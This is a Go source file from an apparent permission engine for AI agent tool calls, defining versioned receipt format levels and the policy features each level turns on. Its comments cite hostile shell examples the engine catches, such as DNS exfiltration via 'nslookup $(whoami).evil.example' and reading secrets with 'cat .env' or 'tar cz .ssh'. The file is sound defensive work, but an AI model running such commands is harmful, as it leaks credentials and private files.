package fsm

import (
	"fmt"

	"github.com/writ-dev/writ/grants"
	"github.com/writ-dev/writ/policy"
)

// Receipt format levels. Every replica must write byte-identical receipts
// for the same log, so a new receipt form is written only once the
// cluster has agreed, in the raft log, to write it: the leader proposes
// OpRaiseFormat when every voter's build supports the level (issuer), and
// Decide writes the form of the level in force.
//
//   - ReceiptFormatLegacy (1, and 0 for a state that was never raised):
//     the form every build wrote before levels existed. Permits carry no
//     usage facts (their fold takes them from the policy in force) and
//     source events pack their descriptor into Sources, Target and
//     Grounds.
//   - ReceiptFormatFacts (2): permits carry their usage facts (Charged,
//     LedgerUntil, InstrumentUntil, Quotas) and source events their
//     descriptor in fields of their own (SourceID, Origins, SourcePath,
//     ModelMade).
//   - ReceiptFormatSummaries (3): the state machine writes refusal
//     summaries (OpRefusalSummary, events.KindRefusalSummary), a kind
//     auditors of earlier builds do not know; below this level the op is
//     refused and the issuer's admission control stays off.
//   - ReceiptFormatReviews (4): reviews are decision records (record.go):
//     captions and keep tokens, artifact reviews (OpOpenReview),
//     decisions by operators and reviewers (OpDecideReview), plain-text
//     replies (OpReviewReply), the bindability test when an approval is
//     used, and the review_* receipt kinds. Below it the new ops are
//     refused and approvals work as they did before.
//   - ReceiptFormatRoutes (5): route ownership leases (route.go): route
//     kinds, route fields on grant events, routes on revocations.
//   - ReceiptFormatBreakGlass (6): the state machine writes break-glass
//     cases (OpBreakGlass, events.KindBreakGlass); below this level the
//     op is refused.
//   - ReceiptFormatRouteRetention (7): free route records are forgotten
//     after RouteRetention (OpRouteForget, events.KindRouteForgotten),
//     and a route with no record is acquired above the state-wide
//     generation high-water mark those forgettings leave (route.go).
//     Below this level the op is refused, no record is ever forgotten and
//     the mark stays 0, so every acquisition decides as before.
//   - ReceiptFormatFleet (8, fleet.go): spawned workers, incarnations
//     (every grant binds its worker's incarnation counter and, for a
//     spawned worker, its ancestors' worker counters), worker
//     revocations that revoke the whole subtree in one entry, respawns
//     and lifts. Below it the fleet ops are refused and revocations
//     revoke the worker alone.
//   - ReceiptFormatTypedTraces (9): field traces may name typed matches
//     (number, number:<CODE>, ident), which count as the whole value as a
//     raw match does, and chains of nested decodings (hex+base64, json,
//     ...); below this level such a trace is refused as an unknown
//     transform, as it always was.
//   - ReceiptFormatResultFields (10): grant requests' traces name the
//     field of a structured tool result a value came from (tm 7-8), and
//     the policy's result schemas (results) judge them: a value equal to
//     an attested field takes its level. Below this level traced fields
//     are not read (a policy may declare result schemas, which then judge
//     nothing), so a log written before it replays to the same decisions.
//   - ReceiptFormatGrantSpend (11): a caller about to run a call asks
//     for its grant and spends it in one log entry (OpGrantSpend), and
//     reports a call's outcome and registers its result in one entry
//     (OpEffectSource). Both write exactly the receipts the separate ops
//     write, each its own kind and stream message, so the stream reads
//     as it would; below this level both ops are refused and a caller
//     uses the separate ones.
//   - ReceiptFormatWorkerKeys (12, fleet.go): a spawn may name the public
//     nkey of the child's NATS user (Command.UserKey); the spawn event
//     records it (events.Event.UserKey) and the fleet keeps it, so that
//     the issuer signs a credential for that key alone and revokes it on
//     the NATS servers when the child is revoked, respawned or restored.
//     Below this level the key is not recorded and no credential is
//     signed.
//   - ReceiptFormatShellHosts (13): the policy engine classifies the
//     hosts that network tools in a shell command name without a scheme
//     (nc HOST PORT, ssh user@HOST, scp FILE HOST:, curl HOST/path, dig
//     NAME) against the egress allow-list, as it always did a URL with a
//     scheme (policy.FeatureShellHosts). It changes what is decided, so
//     it waits for every voter: below this level such a command is
//     judged as before, and a log written before the raise replays to
//     the decisions it recorded.
//   - ReceiptFormatShellWords (14): the policy engine reads more of a
//     shell command's words (policy.FeatureShellWords): paths relative to
//     the working directory (cat .env, tar cz .ssh) are held to the
//     protected paths as absolute ones were, and a network tool's
//     destination built at run time is judged by what is known of it
//     (nslookup $(whoami).evil.example reaches evil.example; H=x.example;
//     nc $H 80 reaches x.example; a host made wholly by a command
//     substitution is outside every allow-list). Like 13 it changes what
//     is decided and waits for every voter. A permit also names only the
//     quotas the call counts against (policy.FeatureCountedQuotas): an
//     amount-only quota is no longer listed on git status. And protected
//     content is refused in any argument of a remote call that names no
//     destination (policy.FeatureProtectedUndeclared): a secret in a
//     spare argument of an MCP tool.
//   - ReceiptFormatUnnamedTargets (15): the policy engine reads what a
//     call acts on where the policy does not name it. A require rule
//     whose fields a call carries none of reads every argument instead
//     (policy.FeatureAuthorityUncarried): a delete that names its file by
//     "path", or a chat send addressed by "user_id", no longer passes the
//     rule unchecked. And the files a patch names (Codex's apply_patch)
//     are held to the protected paths, the workspace and the memory paths
//     as a Write's target is (policy.FeaturePatchPaths), as is a shell
//     word that looks like a file in the working directory (cat ops.pw;
//     policy.FeatureShellBareWords). It changes what is decided and waits
//     for every voter, as 13 and 14 do.
//
// The level only goes up. Evolve reads every form whatever the level.
//
// The level is kept out of Digest and out of the receipt stream: it is
// publication bookkeeping, like the outbox, not authority. Most levels
// decide how a receipt is written, not what is decided, and both forms
// fold to the same state (a permit's recorded facts are what the policy
// in force gives at decide time; a source descriptor reads the same
// either way). A level that changes a decision (10, 13, 14, 15) changes it in
// the receipt, which is what a replay folds, so the stream still carries
// everything the digest holds.
// Recording the raise as a receipt would put a kind into the stream that
// auditors of earlier builds refuse (unknown_kind), and would add the
// level to the digest only to make replay carry it back; kept out, a
// replay of the stream reaches the issuer's digest at every level, by any
// auditor that reads both forms. Replicas agree on the level through the
// raft log (OpRaiseFormat) and snapshots (stFormat, after the outbox);
// receipts written at different levels would differ in their hashes, so a
// disagreement could not go unseen anyway.
const (
	ReceiptFormatLegacy uint64 = 1
	ReceiptFormatFacts  uint64 = 2
	// ReceiptFormatSummaries (3) adds refusal summary events.
	ReceiptFormatSummaries uint64 = 3
	// ReceiptFormatReviews (4, record.go) makes reviews decision records.
	// ReceiptFormatRoutes (5) adds route ownership leases: the route
	// kinds (route_acquired ... route_taken), route bindings on grant
	// events and the routes a worker revocation ends. Below it every
	// route op, and every grant request naming a route, is refused.
	ReceiptFormatRoutes uint64 = 5
	// ReceiptFormatBreakGlass (6) adds break-glass events
	// (OpBreakGlass, events.KindBreakGlass); below it the op is refused.
	ReceiptFormatBreakGlass uint64 = 6
	// ReceiptFormatRouteRetention (7) forgets free route records after
	// RouteRetention (OpRouteForget, events.KindRouteForgotten), keeping
	// generations per route name strictly increasing through a
	// state-wide high-water mark; below it the op is refused.
	ReceiptFormatRouteRetention uint64 = 7
	// ReceiptFormatTypedTraces (9) accepts typed matches and nested
	// decodings in field traces (see traceTransformAt).
	ReceiptFormatTypedTraces uint64 = 9
	// ReceiptFormatResultFields (10) judges the result fields traces name
	// against the policy's result schemas (provenance.go); below it they
	// are not read.
	ReceiptFormatResultFields uint64 = 10
	// ReceiptFormatGrantSpend (11) accepts OpGrantSpend and
	// OpEffectSource; below it both are refused (unsupported_version).
	ReceiptFormatGrantSpend uint64 = 11
	// ReceiptFormatWorkerKeys (12) records the NATS user key a spawn
	// names on its spawn event and in the fleet; below it the key is
	// dropped.
	ReceiptFormatWorkerKeys uint64 = 12
	// ReceiptFormatShellHosts (13) judges shell commands with
	// policy.FeatureShellHosts; below it they are judged as before.
	ReceiptFormatShellHosts uint64 = 13
	// ReceiptFormatShellWords (14) judges shell commands with
	// policy.FeatureShellWords as well, lists quotas on permits with
	// policy.FeatureCountedQuotas and checks protected content with
	// policy.FeatureProtectedUndeclared; below it all three are as at 13.
	ReceiptFormatShellWords uint64 = 14
	// ReceiptFormatUnnamedTargets (15) judges with
	// policy.FeatureAuthorityUncarried, policy.FeaturePatchPaths and
	// policy.FeatureShellBareWords;
	// below it a call that carries none of a require rule's fields is not
	// checked by that rule, and a patch's files by the shape rules alone.
	ReceiptFormatUnnamedTargets uint64 = 15
	// MaxReceiptFormat is the highest level this build writes: what its
	// status reports as receipt_format.
	MaxReceiptFormat = ReceiptFormatUnnamedTargets
)

// judgeFeatures are the policy engine's features the level in force
// turns on.
func (s *State) judgeFeatures() policy.Features {
	var f policy.Features
	if s.ReceiptFormat() >= ReceiptFormatShellHosts {
		f |= policy.FeatureShellHosts
	}
	if s.ReceiptFormat() >= ReceiptFormatShellWords {
		f |= policy.FeatureShellWords | policy.FeatureCountedQuotas | policy.FeatureProtectedUndeclared
	}
	if s.ReceiptFormat() >= ReceiptFormatUnnamedTargets {
		f |= policy.FeatureAuthorityUncarried | policy.FeaturePatchPaths | policy.FeatureShellBareWords
	}
	return f
}

// ReceiptFormat is the receipt format level in force (at least
// ReceiptFormatLegacy).
func (s *State) ReceiptFormat() uint64 { return max(s.format, ReceiptFormatLegacy) }

// writesFacts reports whether Decide writes the receipt form of
// ReceiptFormatFacts.
func (s *State) writesFacts() bool { return s.ReceiptFormat() >= ReceiptFormatFacts }

// WritesBreakGlass reports whether Decide writes break-glass cases
// (OpBreakGlass) at the level in force.
func (s *State) WritesBreakGlass() bool { return s.ReceiptFormat() >= ReceiptFormatBreakGlass }

// TypedTraces reports whether field traces may name typed matches and
// nested decodings at the level in force.
func (s *State) TypedTraces() bool { return s.ReceiptFormat() >= ReceiptFormatTypedTraces }

// JudgesResultFields reports whether the level in force reads the result
// fields of traces.
func (s *State) JudgesResultFields() bool { return s.ReceiptFormat() >= ReceiptFormatResultFields }

// GrantSpends reports whether the level in force accepts the combined
// ops OpGrantSpend and OpEffectSource.
func (s *State) GrantSpends() bool { return s.ReceiptFormat() >= ReceiptFormatGrantSpend }

// WritesSummaries reports whether Decide writes refusal summaries
// (OpRefusalSummary) at the level in force.
func (s *State) WritesSummaries() bool { return s.ReceiptFormat() >= ReceiptFormatSummaries }

// decideRaiseFormat answers a request to raise the receipt format level.
// It records no event (see the level's comment above); Apply moves the
// level when the answer is a permit. Asking for the level in force is
// answered as a raise (the leader may ask twice before the first one
// applies); asking for a lower level, or one this build does not write,
// is refused.
func decideRaiseFormat(s *State, c *Command) verdict {
	cur := s.ReceiptFormat()
	switch {
	case c.Format < ReceiptFormatLegacy || c.Format > MaxReceiptFormat:
		return reply(grants.Refuse(grants.ReasonUnknownVersion, "receipt format",
			fmt.Sprintf("receipt format %d is not one this build writes (%d-%d)", c.Format, ReceiptFormatLegacy, MaxReceiptFormat)))
	case c.Format < cur:
		return reply(grants.Refuse(grants.ReasonInvalidRequest, "receipt format",
			fmt.Sprintf("the receipt format is %d and is never lowered (asked for %d)", cur, c.Format)))
	}
	return reply(grants.Envelope{Decision: grants.Permit, Detail: fmt.Sprintf("receipt format %d", c.Format)})
}

// raiseFormat moves the level to f if it is higher (Apply, on a permitted
// OpRaiseFormat). A level of 1 is kept as 0, so that a state raised to
// the level it was already at encodes as it did.
func (s *State) raiseFormat(f uint64) {
	if f > s.ReceiptFormat() {
		s.format = f
	}
}
